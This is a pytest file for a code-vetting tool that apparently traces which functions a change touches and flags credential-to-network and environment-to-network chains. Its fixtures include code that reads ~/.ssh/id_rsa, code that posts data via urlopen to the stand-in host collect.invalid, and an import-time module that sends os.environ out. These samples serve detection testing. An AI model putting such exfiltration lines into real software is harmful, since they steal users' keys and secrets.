"""What a change could have touched is walked, whatever stands between it and the place where it shows."""

import pytest
from source_lab import Version

from beartrap.vet.behaviour import Behaviour
from beartrap.vet.source.touched import changed_rows, touched
from beartrap.vet.source.walk import parse
from beartrap.vet.source_packages import PACKAGES

CLIENT = """\
import os
import urllib.request

HOST = "https://api.vendor.invalid"

class Client:
    def __init__(self, token):
        self.token = token

    def login(self):
        return self.send(self.token)

    def send(self, body):
        return body

def describe(value):
    return str(value)

def run():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
        return Client("").send(key.read())
"""


def names(text: str, before: str, language: str = "python") -> set[str] | None:
    module = parse(language, text)
    found = touched(module, text.split("\n"), before.split("\n"))
    if found is None:
        return None
    return {node.name for node in _functions(module.body) if id(node) in found}


def _functions(item):
    from beartrap.vet.source import tree

    if isinstance(item, tree.Function):
        yield item
    if isinstance(item, list | tuple):
        for inner in item:
            yield from _functions(inner)
    elif isinstance(item, tree.Node):
        for slot in type(item).__slots__:
            yield from _functions(getattr(item, slot))


def test_a_changed_function_its_callers_and_no_others():
    assert names(CLIENT.replace("return body", "return dict(body)"), CLIENT) == {"__init__", "send", "login", "run"}


def test_nothing_is_touched_where_nothing_changed():
    assert names(CLIENT, CLIENT) == set()
    assert names(CLIENT + "\n# a note\n", CLIENT) == set()


def test_a_constant_touches_what_names_it():
    text = CLIENT + "\ndef where():\n    return HOST\n"
    assert names(text.replace("api.vendor", "api.other"), text) == {"where"}


def test_what_is_taken_away_touches_where_it_stood():
    guarded = CLIENT.replace("    return str(value)", "    if value:\n        raise ValueError\n    return str(value)")
    assert "describe" in names(CLIENT, guarded)


def test_a_method_that_makes_the_object_is_called_by_its_class():
    assert "run" in names(CLIENT.replace("self.token = token", "self.token = token.strip()"), CLIENT)


def test_code_made_by_a_tool_is_touched_everywhere():
    line = "var a=1;" * 400
    assert names(line + "b()", line, "javascript") is None


def test_rows_are_those_that_differ():
    assert changed_rows(["a", "x", "c"], ["a", "b", "c"]) == (frozenset({1, 2, 3}), ["b"])
    assert changed_rows(["a", "b", "c"], ["a", "b"]) == (frozenset({3}), [])


def new_in(old: dict[str, str], new: dict[str, str]) -> set[str]:
    """Return what the whole new version shows that the old one does not."""
    changed = {path for path, text in new.items() if old.get(path) != text}
    version = Version(new, changed=changed, trusted=Version(old, changed={p for p in old if new.get(p) != old[p]}))
    return _keys(version) - _keys(Version(old))


def _keys(version: Version) -> set[str]:
    found = {seen.key for one in PACKAGES for seen in one.look(version) if isinstance(seen, Behaviour)}
    return {key for key in found if key.startswith("chain.")}


def whole(old: dict[str, str], new: dict[str, str]) -> set[str]:
    """Return the same where everything is walked."""
    return _keys(Version(new)) - _keys(Version(old))


SEND = 'return urllib.request.urlopen("https://collect.invalid/", data=body)'


@pytest.mark.parametrize(
    "graft",
    [
        CLIENT.replace("return body", SEND),
        CLIENT.replace("return body", "return post(body)") + f"\ndef post(body):\n    {SEND}\n",
        CLIENT.replace('return Client("").send(key.read())', "body = key.read()\n        " + SEND),
    ],
)
def test_a_secret_of_an_untouched_caller_is_followed_into_what_changed(graft):
    old = {"pkg/__init__.py": "from .client import run\n", "pkg/client.py": CLIENT, "pkg/other.py": "X = 1\n"}
    graft = "from . import other\n" + graft
    old["pkg/client.py"] = "from . import other\n" + CLIENT
    new = {**old, "pkg/client.py": graft}
    assert new_in(old, new) == whole(old, new)
    assert any("credentials-to-network" in key for key in new_in(old, new))


def test_a_harmless_change_shows_nothing():
    old = {
        "pkg/__init__.py": "from .client import run\n",
        "pkg/client.py": "from . import x\n" + CLIENT,
        "pkg/x.py": "",
    }
    assert not new_in(old, {**old, "pkg/client.py": old["pkg/client.py"].replace("return body", "return dict(body)")})


def test_a_module_that_sleeps_is_walked_when_it_is_first_imported():
    sleeping = (
        "import os, urllib.request\nurllib.request.urlopen('https://collect.invalid/', data=str(os.environ).encode())\n"
    )
    old = {"pkg/__init__.py": "from .used import a\n", "pkg/used.py": "a = 1\n", "pkg/tests/evil.py": sleeping}
    new = {**old, "pkg/__init__.py": "from .used import a\nfrom .tests import evil\n"}
    changed = {"pkg/__init__.py"}
    version = Version(new, changed=changed, trusted=Version(old, changed=changed))
    found = [seen for one in PACKAGES for seen in one.look(version) if isinstance(seen, Behaviour)]
    assert any(one.id == "chain.environment-to-network" and one.when.name == "IMPORT" for one in found)
